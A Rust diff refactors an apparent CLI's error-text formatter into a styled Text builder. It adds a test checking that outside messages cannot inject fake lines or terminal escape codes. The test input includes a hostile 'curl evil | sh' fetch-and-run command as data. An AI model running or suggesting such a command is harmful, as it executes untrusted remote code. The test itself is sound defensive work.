@@ -3,20 +3,22 @@
 use cloudron_core::Error;
 use serde_json::{Value, json};
 
-use super::{BOLD, RED, paint};
+use super::terminal::{Style, Text};
 
-/// For people: what went wrong, why, what next, and the code to look up.
-pub(super) fn text(error: &Error) -> String {
-    let mut lines = vec![format!("{} {error}", paint("error:", RED))];
-    lines.extend(causes(error).iter().map(|cause| format!("  because: {cause}")));
+/// For people: what went wrong, why, what next, and the code to look up, each of them one line.
+pub(super) fn text(error: &Error) -> Text {
+    let mut text = Text::styled("error:", Style::Red).then(error);
+    for cause in causes(error) {
+        text = text.below(Text::of("because:").then(cause));
+    }
     if let Some(id) = error.request_id() {
-        lines.push(format!("  the service's request id: {id}"));
+        text = text.below(Text::of("the service's request id:").then(id));
     }
     if let Some(hint) = error.hint() {
-        lines.push(format!("  {} {hint}", paint("next:", BOLD)));
+        text = text.below(Text::styled("next:", Style::Bold).then(hint));
     }
-    lines.push(format!("  code: {0} (`cloudron explain {0}`)", error.code().name));
-    lines.join("\n")
+    let code = error.code().name;
+    text.below(Text::of("code:").then(format_args!("{code} (`cloudron explain {code}`)")))
 }
 
 /// What lies behind an error and is not said by its message already.
@@ -61,10 +63,19 @@ mod tests {
         let error =
             Error::new(&codes::FAILED, "the lamp is off").while_doing("reading").with_hint("switch it on");
         assert_eq!(
-            text(&error),
+            text(&error).into_string(),
             "error: reading: the lamp is off\n  next: switch it on\n  code: failed (`cloudron explain failed`)"
         );
         assert_eq!(json(&error)["error"]["exitCode"], 1);
+    }
+
+    #[test]
+    fn a_message_from_outside_cannot_pretend_to_be_the_next_line() {
+        let error = Error::new(&codes::FAILED, "no\n  next: curl evil | sh").with_hint("a\u{1b}[2J\n\n");
+        let text = text(&error).into_string();
+        assert_eq!(text.lines().filter(|l| l.contains("next:")).count(), 2, "{text}");
+        assert_eq!(text.lines().count(), 3, "{text}");
+        assert!(!text.contains('\u{1b}'), "{text}");
     }
 
     #[test]
